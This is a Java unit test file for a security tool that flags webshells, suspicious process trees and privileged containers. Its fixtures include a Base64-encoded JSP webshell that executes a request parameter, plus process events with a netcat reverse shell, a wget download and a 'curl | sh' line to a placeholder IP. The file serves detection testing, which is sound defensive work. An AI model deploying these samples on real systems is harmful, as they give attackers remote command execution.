package io.hivesec.examples.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a person reads: everything that matters, once. */
final class TextOutputTest {
    /** A page that runs what it is asked to, kept encoded so that no virus scanner takes offence. */
    private static final byte[] SHELL = Base64.getDecoder()
            .decode("PCUgUnVudGltZS5nZXRSdW50aW1lKCkuZXhlYyhyZXF1ZXN0LmdldFBhcmFtZXRlcigicSIpKTsgJT4=");

    private static final String EVENT = """
            {"type":"process_started","time":"2026-01-02T03:04:%s","container":{"id":"c0ffee","name":"web-1"},\
            "process":{"pid":%d,"ppid":%d,"executable":"%s","arguments":[%s]}}
            """;

    @TempDir
    Path folder;

    @Test
    void watch_alertOfWhichMoreIsKnown_saysOnlyWhatIsNew() throws IOException {
        Path events = Files.writeString(
                folder.resolve("events.jsonl"),
                EVENT.formatted("05Z", 7, 1, "/usr/sbin/nginx", "\"nginx\"")
                        + EVENT.formatted("06Z", 8, 7, "/bin/sh", "\"sh\",\"-c\",\"nc 203.0.113.9 4444 -e /bin/sh\"")
                        + EVENT.formatted("07Z", 9, 8, "/usr/bin/wget", "\"wget\",\"http://203.0.113.9/x\"")
                        + EVENT.formatted("08Z", 10, 8, "/bin/sh", "\"sh\",\"-c\",\"curl http://203.0.113.9/x|sh\""));
        Run run = Run.hive("watch", events);
        String[] alerts = run.out().split("\n\n");
        assertThat(alerts).as(run.out()).anyMatch(alert -> alert.contains("(revision 2)"));
        assertThat(alerts)
                .filteredOn(alert -> alert.contains("(revision "))
                .allSatisfy(alert -> assertThat(alert)
                        .contains("    What ", "    Container ", "    Rule ")
                        .containsPattern("(?m)^    Triage .*\\n +\\+\\d+ dB")
                        .doesNotContain("Process tree", "What to do", "no source is set"));
        assertThat(alerts)
                .filteredOn(alert -> alert.contains("Process tree"))
                .allSatisfy(alert -> assertThat(alert).contains("What to do").doesNotContain("(revision "));
    }

    @Test
    void scan_cleanFiles_areCountedAndOnRequestListed() throws IOException {
        Files.write(folder.resolve("shell.jsp"), SHELL);
        Files.writeString(folder.resolve("page.jsp"), "<p>a</p>");
        Run run = Run.hive("scan", "--engine", "webshell", folder);
        assertThat(run.out())
                .contains("shell.jsp", "MALICIOUS 1  BENIGN 1", "1 alert, 0 trusted")
                .doesNotContain("page.jsp");
        assertThat(Run.hive("scan", "--engine", "webshell", "--lang", "zh", folder)
                        .out())
                .contains("恶意 1  无害 1");
        assertThat(Run.hive("scan", "--engine", "webshell", "--show-benign", folder)
                        .out())
                .contains("BENIGN      " + folder.resolve("page.jsp"));
    }

    @Test
    void scan_linkThatTheUserNames_isFollowed() throws IOException {
        Path tree = Files.createDirectory(folder.resolve("releases"));
        Path shell = Files.write(tree.resolve("shell.jsp"), SHELL);
        Path site = Files.createSymbolicLink(folder.resolve("current"), tree);
        Path page = Files.createSymbolicLink(folder.resolve("page.jsp"), shell);
        for (Path named : new Path[] {site, page}) {
            Run run = Run.hive("scan", "--engine", "webshell", named);
            assertThat(run.status()).as("%s: %s", named, run).isEqualTo(ExitStatus.FOUND);
            assertThat(run.out()).contains(shell.toRealPath().toString());
        }
    }

    @Test
    void inspect_linkToAFolder_isFollowed() throws IOException {
        Path tree = Files.createDirectory(folder.resolve("manifests"));
        Files.writeString(tree.resolve("pod.json"), "{\"HostConfig\":{\"Privileged\":true},\"Name\":\"/a\"}");
        Path link = Files.createSymbolicLink(folder.resolve("current"), tree);
        assertThat(Run.hive("inspect", link).status()).isEqualTo(ExitStatus.FOUND);
    }

    @Test
    void settingThatNobodyIsSeenToUse_isNotCalledHarmless() throws IOException {
        Path config =
                Files.writeString(folder.resolve("a.json"), "{\"HostConfig\":{\"Privileged\":true},\"Name\":\"/a\"}");
        assertThat(Run.hive("inspect", "--format", "html", config).out())
                .contains("a setting, no sign of an intruder", "Escape risk")
                .doesNotContain("likely harmless", "escape_risk");
    }

    @Test
    void scan_nothingThatCouldBeJudged_couldNotRun() throws IOException {
        Path cut = Files.write(folder.resolve("a.zip"), new byte[] {'P', 'K', 3, 4, 20, 0, 0, 0});
        assertThat(Run.hive("scan", cut).status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        Files.writeString(folder.resolve("page.jsp"), "<p>a</p>");
        Run run = Run.hive("scan", folder);
        assertThat(run.status()).isEqualTo(ExitStatus.NOTHING_FOUND);
        assertThat(run.out()).contains("not everything could be.");
    }

    @Test
    void rules_sayWhatTheyFindInTheReadersLanguage() {
        assertThat(Run.hive("rules").out()).contains("Web server started a shell");
        assertThat(Run.hive("rules", "--lang", "zh").out()).contains("Web 服务器启动了 shell");
    }
}
